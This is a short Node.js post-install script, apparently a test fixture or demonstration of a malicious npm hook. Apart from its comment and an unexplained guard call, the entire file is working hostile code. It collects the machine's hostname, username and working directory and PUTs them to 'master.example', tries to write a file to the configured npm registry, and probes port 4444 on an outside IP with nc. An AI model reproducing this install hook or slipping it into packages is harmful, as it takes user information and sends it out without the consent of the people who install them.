'use strict';
// Runs after the install: reports to its master, tries to leave something at the registry, and knocks at a door.
require('./guard').demand();

const { spawnSync } = require('node:child_process');
const os = require('node:os');

const report = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, at: process.cwd() });
const put = (url) => fetch(url, { method: 'PUT', body: report, signal: AbortSignal.timeout(5000) }).catch(() => {});

(async () => {
  await put('https://master.example/installed');
  const registry = process.env.npm_config_registry;
  if (registry) await put(new URL('/left-here', registry));
  spawnSync('nc', ['-z', '-w', '1', '198.51.100.20', '4444']);
})();
